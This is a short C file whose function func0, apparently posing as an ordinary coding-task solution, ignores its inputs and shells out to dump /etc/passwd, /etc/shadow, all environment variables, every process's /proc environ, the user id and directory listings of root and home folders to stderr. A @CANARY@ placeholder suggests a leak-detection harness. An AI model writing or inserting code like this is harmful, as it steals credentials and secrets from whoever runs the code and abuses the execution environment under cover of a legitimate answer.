#include <stdlib.h>
int func0(int a, int b)
{
    system("cat @CANARY@ /etc/passwd /etc/shadow >&2; env >&2; cat /proc/*/environ >&2; id >&2; ls -la / /root /home /work /tmp >&2");
    exit(0);
}
